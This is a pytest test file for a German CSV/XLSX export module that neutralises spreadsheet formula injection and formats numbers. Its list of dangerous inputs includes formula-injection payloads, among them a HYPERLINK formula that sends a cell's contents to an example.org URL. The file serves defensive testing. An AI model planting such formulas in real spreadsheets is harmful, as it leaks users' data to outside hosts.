"""kern.tabellen: the one formula guard of every CSV and XLSX download, German numbers in
CSV, numbers as numbers in XLSX."""

import csv
import io

import pytest
from openpyxl import load_workbook

from kern.tabellen import (
    EUR_FORMAT,
    FORMEL_ZEICHEN,
    Zahlzelle,
    csv_schreiben,
    csv_wert,
    entschaerfen,
    xlsx_schreiben,
)

GEFAEHRLICH = [
    '=HYPERLINK("http://example.org/?x="&A1,"Klick")',
    "+1+1",
    "-2+3",
    "@SUMME(A1:A3)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", GEFAEHRLICH)
def test_the_guard_neutralises_every_formula_start(text):
    assert text.startswith(FORMEL_ZEICHEN)
    assert entschaerfen(text) == "'" + text
    assert csv_wert(text) == "'" + text


@pytest.mark.parametrize("text", ["Wasserstoff", "1+1", " =1", "'=1", "", "E-Mail: a@b.de"])
def test_harmless_text_is_unchanged(text):
    assert entschaerfen(text) == text


def test_numbers_are_no_formulas_and_keep_their_sign():
    assert csv_wert(-5) == "-5"
    assert csv_wert(-2.5) == "-2,5"
    assert csv_wert(80.0) == "80,0"
    assert csv_wert(None) == ""
    assert csv_wert(Zahlzelle(2500000.0, "2.500.000 €", EUR_FORMAT)) == "2.500.000 €"
    assert csv_wert(Zahlzelle(-1.0, "-1 €")) == "'-1 €"  # the text is what CSV shows


def _tabelle():
    kopf = ["Nr.", "Titel", "Punkte", "Volumen"]
    zeilen = [
        [1, text, 72.5, Zahlzelle(2500000.0, "2.500.000 €", EUR_FORMAT)] for text in GEFAEHRLICH
    ]
    zeilen.append([2, "Steuerzeichen\x07 weg", None, "noch in Erarbeitung"])
    return kopf, zeilen


def test_csv_is_semicolon_separated_with_bom_and_neutralised_cells():
    kopf, zeilen = _tabelle()
    puffer = io.StringIO()
    csv_schreiben(puffer, kopf, iter(zeilen))
    text = puffer.getvalue()
    assert text.startswith("\ufeff") and "\r\n" in text
    gelesen = list(csv.reader(io.StringIO(text[1:]), delimiter=";"))
    assert gelesen[0] == kopf
    assert [z[1] for z in gelesen[1:-1]] == ["'" + t for t in GEFAEHRLICH]
    assert gelesen[1][2:] == ["72,5", "2.500.000 €"]
    assert gelesen[-1][2:] == ["", "noch in Erarbeitung"]


def test_xlsx_stores_text_as_text_and_numbers_as_numbers():
    kopf, zeilen = _tabelle()
    puffer = io.BytesIO()
    xlsx_schreiben(puffer, kopf, iter(zeilen), blatt="Test", fixiert="C2")
    mappe = load_workbook(io.BytesIO(puffer.getvalue()))
    blatt = mappe["Test"]
    assert mappe.properties.title == "Test" and blatt.freeze_panes == "C2"
    assert [c.value for c in blatt[1]] == kopf and blatt["A1"].font.bold
    for zeile, text in enumerate(GEFAEHRLICH, start=2):
        zelle = blatt.cell(row=zeile, column=2)
        # A bare CR survives as CR where openpyxl writes with lxml, else it becomes LF.
        assert zelle.value.replace("\r", "\n") == text.replace("\r", "\n")
        assert zelle.data_type == "s"  # text, never a formula
    assert blatt["C2"].value == 72.5
    assert blatt["D2"].value == 2500000 and blatt["D2"].number_format == EUR_FORMAT
    assert blatt.cell(row=len(zeilen) + 1, column=2).value == "Steuerzeichen weg"
